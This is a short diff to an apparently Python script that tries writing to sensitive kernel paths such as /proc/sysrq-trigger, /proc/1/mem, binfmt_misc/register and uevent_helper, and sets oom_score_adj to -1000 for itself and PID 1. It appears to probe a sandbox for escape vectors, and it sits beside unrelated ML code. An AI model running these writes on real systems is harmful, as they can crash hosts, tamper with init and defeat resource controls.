@@ -29,7 +29,6 @@ PLACES = (
     "/proc/sys/fs/binfmt_misc/register",
     "/proc/sys/kernel/ns_last_pid",
     "/proc/sysrq-trigger",
-    "/proc/1/oom_score_adj",
     "/proc/1/mem",
     "/sys/kernel/uevent_helper",
     "/sys/kernel/mm/transparent_hugepage/enabled",
@@ -39,21 +38,19 @@ PLACES = (
 )
 
 
-def written(path):
+def written(path, text=b"0"):
     fd = os.open(path, os.O_WRONLY)
     try:
-        return os.write(fd, b"0")
+        return os.write(fd, text)
     finally:
         os.close(fd)
 
 
 for path in PLACES:
     attempt(path, lambda: written(path))
-attempt(
-    "less likely to be killed",
-    lambda: written("/proc/self/oom_score_adj")
-    and open("/proc/self/oom_score_adj", "w").write("-1000"),
-)
+for process in ("self", "1"):
+    path = f"/proc/{process}/oom_score_adj"
+    attempt(path, lambda: written(path, b"-1000"))
 
 
 def softmax(o):
